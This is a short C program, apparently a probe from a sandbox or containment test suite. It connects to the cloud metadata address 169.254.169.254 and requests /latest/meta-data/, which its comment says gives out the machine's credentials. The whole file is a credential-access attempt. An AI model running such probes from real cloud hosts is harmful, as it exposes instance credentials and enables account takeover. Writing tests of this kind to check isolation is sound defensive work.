/* The cloud's metadata service, which gives out the machine's credentials. */
#include "attack.h"
int main(int c, char **v) {
    const char *request = "GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n";
    int fd = dial("169.254.169.254", 80);
    if (fd < 0) finish(0);
    send(fd, request, strlen(request), 0);
    finish(gets_prize(fd));
}
